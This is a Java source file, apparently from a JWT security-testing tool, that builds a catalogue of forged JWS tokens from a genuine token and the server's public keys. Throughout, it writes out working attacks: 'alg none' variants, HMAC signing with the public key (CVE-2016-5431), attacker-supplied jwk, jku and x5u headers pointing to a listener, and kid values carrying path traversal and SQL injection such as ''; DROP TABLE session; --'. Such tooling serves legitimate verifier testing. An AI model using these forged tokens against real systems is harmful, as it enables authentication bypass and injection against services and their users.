package dev.countersign.attack;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.math.BigInteger;
import java.net.URI;
import java.security.AlgorithmParameters;
import java.security.GeneralSecurityException;
import java.security.KeyFactory;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.Signature;
import java.security.interfaces.ECPublicKey;
import java.security.spec.ECGenParameterSpec;
import java.security.spec.ECParameterSpec;
import java.security.spec.ECPoint;
import java.security.spec.ECPublicKeySpec;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/// Tokens that lie about how they are signed, by somebody who has a genuine token and the public
/// keys (RFC 8725 §2).
final class ForgedHeaders {
  private final Jws genuine;
  private final JsonNode jwk;
  private final URI listener;
  private final KeyPair own;
  private final Map<String, String> tokens = new LinkedHashMap<>();

  private ForgedHeaders(String genuine, String jwks, URI listener) throws GeneralSecurityException {
    this.genuine = Jws.parse(genuine);
    JsonNode keys = new JsonMapper().readTree(jwks).at("/keys");
    this.jwk =
        keys.valueStream()
            .filter(key -> key.at("/kid").stringValue().equals(this.genuine.kid()))
            .findFirst()
            .orElseGet(
                () -> keys.at("/0")); // That of the other contract, where a secret is shared.
    this.listener = listener;
    KeyPairGenerator generator = KeyPairGenerator.getInstance("EC");
    generator.initialize(new ECGenParameterSpec("secp256r1"));
    this.own = generator.generateKeyPair();
  }

  /// The tokens by what is wrong with them.
  ///
  /// @param listener where headers point that ask the server to fetch something
  static Map<String, String> of(String genuine, String jwks, URI listener) {
    try {
      var forged = new ForgedHeaders(genuine, jwks, listener);
      forged.unsigned();
      forged.keyedWithThePublicKey();
      forged.bringingTheirOwnKey();
      forged.namingOtherKeys();
      forged.otherSerialisations();
      return forged.tokens;
    } catch (GeneralSecurityException e) {
      throw new IllegalStateException(e);
    }
  }

  private void unsigned() {
    for (String none : List.of("none", "None", "NONE", "nOnE", "noNE", "", "null", "HS256 ")) {
      String header = genuine.headerWithAlgorithm(none);
      String input = Jws.encode(header.getBytes(UTF_8)) + "." + encodedClaims();
      tokens.put("alg '" + none + "', empty signature", input + ".");
      tokens.put("alg '" + none + "', no signature", input);
      tokens.put("alg '" + none + "', the old signature", input + "." + genuine.signature());
    }
    String header = genuine.header().replaceFirst("\"alg\":\"[^\"]*\",", "");
    tokens.put("no alg", Jws.encode(header.getBytes(UTF_8)) + "." + encodedClaims() + ".");
    tokens.put(
        "alg null", sign(genuine.header().replaceFirst("\"[EH]S256\"", "null"), this::ownKey));
  }

  // CVE-2016-5431: the public key is no secret, and as an HMAC key it would make anybody a signer.
  private void keyedWithThePublicKey() throws GeneralSecurityException {
    byte[] x = Base64.getUrlDecoder().decode(jwk.at("/x").stringValue());
    byte[] y = Base64.getUrlDecoder().decode(jwk.at("/y").stringValue());
    byte[] der = published(x, y).getEncoded();
    String base64 = Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der);
    String pem = "-----BEGIN PUBLIC KEY-----\n" + base64 + "\n-----END PUBLIC KEY-----";
    byte[] point = new byte[64];
    System.arraycopy(x, 0, point, 0, 32);
    System.arraycopy(y, 0, point, 32, 32);
    byte[] uncompressed = new byte[65];
    uncompressed[0] = 4;
    System.arraycopy(point, 0, uncompressed, 1, 64);
    Map<String, byte[]> forms = new LinkedHashMap<>();
    forms.put("PEM", pem.getBytes(UTF_8));
    forms.put("PEM and a line end", (pem + "\n").getBytes(UTF_8));
    forms.put("DER", der);
    forms.put("JWK", jwk.toString().getBytes(UTF_8));
    forms.put("x||y", point);
    forms.put("04||x||y", uncompressed);
    forms.put("x", x);
    forms.put("kid", jwk.at("/kid").stringValue().getBytes(UTF_8));
    for (String algorithm : List.of("HS256", "ES256")) {
      forms.forEach((form, key) -> {
        String header = genuine.headerWithAlgorithm(algorithm);
        tokens.put(algorithm + " keyed with " + form, sign(header, Jws.hmac(key)));
        String published = genuine.headerWithKid(jwk.at("/kid").toString());
        String renamed = published.replaceFirst("\"[EH]S256\"", "\"" + algorithm + "\"");
        tokens.put(
            algorithm + " keyed with " + form + ", published kid", sign(renamed, Jws.hmac(key)));
      });
    }
  }

  private void bringingTheirOwnKey() {
    var point = ((ECPublicKey) own.getPublic()).getW();
    String own =
        "{\"kty\":\"EC\",\"crv\":\"P-256\",\"x\":\"%s\",\"y\":\"%s\"}"
            .formatted(number(point.getAffineX()), number(point.getAffineY()));
    String x5c =
        "[\"" + Base64.getEncoder().encodeToString(this.own.getPublic().getEncoded()) + "\"]";
    Map<String, String> members = new LinkedHashMap<>();
    members.put("jwk", "\"jwk\":" + own);
    members.put("jwk of the server", "\"jwk\":" + jwk);
    members.put("symmetric jwk", "\"jwk\":{\"kty\":\"oct\",\"k\":\"\"}");
    members.put("jku", "\"jku\":\"" + listener + "/jku\"");
    members.put("x5u", "\"x5u\":\"" + listener + "/x5u\"");
    members.put("x5c", "\"x5c\":" + x5c);
    members.put("x5t", "\"x5t\":\"AAAA\"");
    members.put("crit", "\"crit\":[\"exp-policy\"],\"exp-policy\":true");
    members.put("empty crit", "\"crit\":[]");
    members.put("crit that is no list", "\"crit\":\"exp\"");
    members.put("b64", "\"b64\":false,\"crit\":[\"b64\"]");
    members.put("b64 without crit", "\"b64\":false");
    members.put("zip", "\"zip\":\"DEF\"");
    members.forEach((name, member) -> {
      String header =
          genuine.headerWithAlgorithm("ES256").replaceFirst("\\}$", "") + "," + member + "}";
      tokens.put("own key, " + name, sign(header, this::ownKey));
      tokens.put(
          "empty key, " + name, sign(header.replace("ES256", "HS256"), Jws.hmac(new byte[0])));
    });
    tokens.put("own key", sign(genuine.headerWithAlgorithm("ES256"), this::ownKey));
  }

  private void namingOtherKeys() {
    for (String kid :
        List.of(
            "",
            "\"\"",
            "null",
            "0",
            "[]",
            "{}",
            "\"unknown\"",
            "\"../../../../../../dev/null\"",
            "\"/dev/null\"",
            "\"x' UNION SELECT '\"",
            "\"' OR '1'='1\"",
            "\"x'; DROP TABLE session; --\"",
            "\"" + listener + "/kid\"",
            "\"\\u0000\"",
            "\"" + "k".repeat(1000) + "\"")) {
      String header = genuine.headerWithKid(kid);
      for (String algorithm : List.of("HS256", "ES256")) {
        String named = header.replaceFirst("\"[EH]S256\"", "\"" + algorithm + "\"");
        tokens.put(algorithm + ", kid " + kid + ", empty key", sign(named, Jws.hmac(new byte[0])));
        tokens.put(algorithm + ", kid " + kid + ", own key", sign(named, this::ownKey));
      }
    }
    tokens.put("empty key", sign(genuine.headerWithAlgorithm("HS256"), Jws.hmac(new byte[0])));
    tokens.put("empty header", sign("{}", this::ownKey));
    tokens.put("header that is a list", sign("[]", this::ownKey));
    tokens.put("header that is null", sign("null", this::ownKey));
    tokens.put("header that is no JSON", sign("alg=none", this::ownKey));
    tokens.put("two algs", sign(genuine.header().replace("{", "{\"alg\":\"none\","), this::ownKey));
    tokens.put("deep header", sign("[".repeat(2000) + "]".repeat(500), this::ownKey));
  }

  private void otherSerialisations() {
    String header = Jws.encode(genuine.header().getBytes(UTF_8));
    String signature = genuine.signature();
    String flattened =
        "{\"payload\":\"%s\",\"protected\":\"%s\",\"signature\":\"%s\"}"
            .formatted(encodedClaims(), header, signature);
    String general =
        "{\"payload\":\"%s\",\"signatures\":[{\"protected\":\"%s\",\"signature\":\"%s\"}]}"
            .formatted(encodedClaims(), header, signature);
    String jwe = Jws.encode("{\"alg\":\"dir\",\"enc\":\"A256GCM\"}".getBytes(UTF_8));
    tokens.put("flattened JSON", flattened);
    tokens.put("flattened JSON, encoded", Jws.encode(flattened.getBytes(UTF_8)));
    tokens.put("general JSON", general);
    tokens.put("JWE", jwe + ".." + Jws.encode(new byte[12]) + "." + encodedClaims() + ".AAAA");
    tokens.put("JWE without parts", jwe + "....");
    tokens.put("JWE around it", header + "." + encodedClaims() + "." + signature + ".AAAA.AAAA");
    tokens.put("detached", header + ".." + signature);
  }

  private String sign(String header, UnaryOperator<byte[]> signer) {
    return Jws.sign(header, genuine.claims(), signer);
  }

  private String encodedClaims() {
    return Jws.encode(genuine.claims().getBytes(UTF_8));
  }

  private byte[] ownKey(byte[] input) {
    try {
      Signature signature = Signature.getInstance("SHA256withECDSAinP1363Format");
      signature.initSign(own.getPrivate());
      signature.update(input);
      return signature.sign();
    } catch (GeneralSecurityException e) {
      throw new IllegalStateException(e);
    }
  }

  private static ECPublicKey published(byte[] x, byte[] y) throws GeneralSecurityException {
    AlgorithmParameters curve = AlgorithmParameters.getInstance("EC");
    curve.init(new ECGenParameterSpec("secp256r1"));
    var point = new ECPoint(new BigInteger(1, x), new BigInteger(1, y));
    var spec = new ECPublicKeySpec(point, curve.getParameterSpec(ECParameterSpec.class));
    return (ECPublicKey) KeyFactory.getInstance("EC").generatePublic(spec);
  }

  private static String number(BigInteger number) {
    byte[] bytes = number.toByteArray();
    byte[] fixed = new byte[32];
    int length = Math.min(bytes.length, 32);
    System.arraycopy(bytes, bytes.length - length, fixed, 32 - length, length);
    return Jws.encode(Arrays.copyOf(fixed, 32));
  }
}
